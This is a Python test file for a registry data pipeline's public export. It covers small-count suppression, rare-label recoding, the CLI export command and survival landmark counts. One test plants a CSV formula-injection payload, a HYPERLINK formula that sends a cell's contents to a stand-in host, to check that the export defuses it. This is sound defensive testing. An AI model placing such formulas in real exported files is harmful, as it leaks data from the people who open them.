    assert diagnosed.n_patients.notna().any() and not diagnosed.n_at_risk.between(1, MIN_CELL - 1).any()


def test_every_row_labelled_all_is_declared_as_a_total(public):
    """A row reading 'all' that suppression does not know as a total is a total a reader subtracts from."""
    built, _ = public
    for table in PUBLIC_TABLES:
        mart = built.query(f"SELECT * FROM marts.{table.name}")
        labelled = mart[list(table.dimensions)].astype(str).eq("all").any(axis=1)
        if table.has_totals:
            labelled |= mart[list(table.dimensions)].isna().any(axis=1)
        declared = pd.Series(False, index=mart.index)
        for totals in table.group_totals:
            declared |= mart[totals.dimension] == totals.label
        if table.has_totals:
            declared |= mart[list(table.dimensions)].isna().any(axis=1)
        assert not (labelled & ~declared).any(), f"{table.name}: rows labelled all are not declared as totals"


# -- labels ------------------------------------------------------------------------------------------

def test_a_label_fewer_than_five_persons_share_is_published_as_other():
    table = PublicTable("activity", dimensions=("centre", "country"), counts=("n_patients",),
                        written={"centre": frozenset(), "country": frozenset({"FR", "IT"})}, persons="n_patients")
    frame = pd.DataFrame({"centre": ["FR-01", "FR-01", "Dr Martin", "IT-01", None],
                          "country": ["FR", "Lyon 3e", "FR", "IT", "unknown"], "n_patients": [12, 2, 1, 3, 4]})
    published = suppress(generalise(frame, table, MIN_CELL), table, MIN_CELL)
    # FR-01 is shown for 12 persons in one row, so also in its row of 2; IT and FR are ISO codes;
    # the mart's own "unknown" and a missing centre stay as they are.
    assert published.centre.tolist()[:4] == ["FR-01", "FR-01", "other", "other"] and pd.isna(published.centre[4])
    assert published.country.tolist() == ["FR", "other", "FR", "IT", "unknown"]
    assert published.n_patients.isna().tolist() == [False, True, True, True, True]  # counts as before


def test_no_published_label_was_written_for_fewer_than_five_persons(public):
    built, paths = public
    recoded = 0
    for table in (t for t in PUBLIC_TABLES if t.written):
        mart = built.query(f"SELECT * FROM marts.{table.name}")
        shown = pd.read_parquet(paths[0].parent / f"{table.name}.parquet")
        for column, closed in table.written.items():
            shared = set(mart.loc[mart[table.persons] >= MIN_CELL, column]) | closed | {"unknown"}
            assert set(shown[column].dropna()) - shared <= {"other"}, f"{table.name}.{column}"
            recoded += int((shown[column] == "other").sum())
            # a shared label keeps every row it had
            kept = mart[column].isin(shared)
            assert (shown.loc[kept, column] == mart.loc[kept, column]).all()
    assert recoded  # the synthetic registries hold rare drugs, centres and regimens


def test_rtw_export_public_writes_the_tables_and_says_what_it_withheld(synthetic_run, tmp_path):
    from typer.testing import CliRunner

    from etl.cli import app

    shutil.copytree(synthetic_run[0].root, tmp_path / "home", symlinks=True)  # the shared home is read only
    done = CliRunner().invoke(app, ["export", "--public", "--home", str(tmp_path / "home"), "--out",
                                    str(tmp_path / "public")], env={"COLUMNS": "250"})
    assert done.exit_code == 0, done.output
    assert "counts below 5 withheld, labels fewer than 5 persons share as 'other'" in done.output
    assert sorted(p.name for p in (tmp_path / "public").iterdir()) == sorted(
        f"{t.name}.{ext}" for t in PUBLIC_TABLES for ext in ("csv", "parquet"))
    activity = pd.read_csv(tmp_path / "public" / "registry_activity.csv", keep_default_na=False)
    assert "other" in set(activity.centre_id) and "FR" in set(activity.country)
    # --out without --public was ignored (the marts went to the home, exit 0): a CLI audit
    ignored = CliRunner().invoke(app, ["export", "--home", str(tmp_path / "home"), "--out", str(tmp_path / "x")],
                                 env={"COLUMNS": "250"})
    assert ignored.exit_code == 1 and "is where --public writes" in ignored.output and not (tmp_path / "x").exists()


def test_a_shared_label_that_a_spreadsheet_would_run_is_published_as_text_in_the_csv(public, tmp_path):
    """A label a centre wrote reaches the public CSV when five persons share it, and whoever opens the
    CSV runs it if it is a formula (LibreOffice 7.4 made the regimen below a live link): the CSV makes
    it text with a leading ', the Parquet keeps it as written."""
    built, _ = public
    warehouse = tmp_path / "warehouse.duckdb"
    shutil.copy2(built.warehouse, warehouse)
    regimen = '=HYPERLINK("http://x.test/?"&A1,"regimen")'
    con = duckdb.connect(str(warehouse))
    try:  # the most shared regimen renamed: every one of its rows keeps its label
        (shared,) = con.execute("SELECT regimen FROM marts.response GROUP BY regimen "
                                "ORDER BY max(n_assessed) DESC LIMIT 1").fetchone()
        con.execute("UPDATE marts.response SET regimen = ? WHERE regimen = ?", [regimen, shared])
        con.execute("UPDATE marts.response SET regimen = 'x;-2+3;y' WHERE regimen <> ? AND regimen <> 'all'",
                    [regimen])
    finally:
        con.close()
    export_public(warehouse, tmp_path / "public", min_cell=MIN_CELL)
    text = (tmp_path / "public" / "response.csv").read_text()
    for delimiter in (",", ";"):  # as a spreadsheet splits it in each locale
        cells = [c for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for c in row]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@")) and not _is_number(c)], delimiter
    published = pd.read_csv(tmp_path / "public" / "response.csv", keep_default_na=False)
    assert "'" + regimen in set(published.regimen)
    assert regimen in set(pd.read_parquet(tmp_path / "public" / "response.parquet").regimen)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _public_landmarks(days: list[float], events: list[bool]) -> pd.DataFrame:
    """The survival_landmark rows export_public suppresses (with the counts their estimates imply) for one group
    of patients, OS and EFS alike, from the Kaplan-Meier marts of their times."""
    times = pd.DataFrame({"origin": "diagnosis", "os_days": days, "os_event": events, "efs_days": days,
                          "efs_event": events, "iccc3_group": None, "advice_group": None})
    estimates = kaplan_meier(times)
    con = duckdb.connect()
    try:
        con.execute("CREATE SCHEMA marts")
        for table, frame in (("survival_km", estimates["kaplan_meier_steps"]),
                             ("survival_landmark", estimates["kaplan_meier_landmarks"])):
            con.register("frame", frame)
            con.execute(f"CREATE TABLE marts.{table} AS SELECT * FROM frame")
            con.unregister("frame")
        return con.execute(_PUBLIC_ROWS["survival_landmark"]).df()
    finally:
        con.close()


def test_the_patients_censored_before_a_landmark_are_counted_apart_from_the_events_on_its_day():
    # 20 children: events on days 50-300 (5) and on day 365, the 1-year landmark, itself; one censored on day 150;
    # 13 followed for 2000 days. At 1 year 14 are at risk (the event of day 365 among them), 5 had an event before
    # and 1 was censored: n_patients less n_at_risk less the events by the landmark (6) read 0 censored.
    days = [50.0, 100.0, 200.0, 250.0, 300.0, 365.0, 150.0] + [2000.0] * 13
    rows = _public_landmarks(days, [True] * 6 + [False] * 14).set_index(["endpoint", "years"])
    assert rows.loc[("OS", 1), ["n_patients", "n_at_risk", "n_events", "n_censored"]].tolist() == [20, 14, 5, 1]
    assert (rows.n_patients == rows.n_at_risk + rows.n_events + rows.n_censored).all()  # every patient once
    assert rows.loc[("OS", 1), "n_events_at_landmark"] == 1  # the estimate at 1 year takes its step
    published = suppress(rows.reset_index(), SURVIVAL, MIN_CELL).set_index(["endpoint", "years"])
    assert published.loc[("OS", 1), ESTIMATE].isna().all()  # it tells the one censored, and the one event of day 365
    assert published.loc[("OS", 1), ["n_patients", "n_at_risk"]].notna().all()  # only the estimate told
    assert not {"n_events", "n_censored", "n_events_at_landmark"} & set(published.columns)  # never written
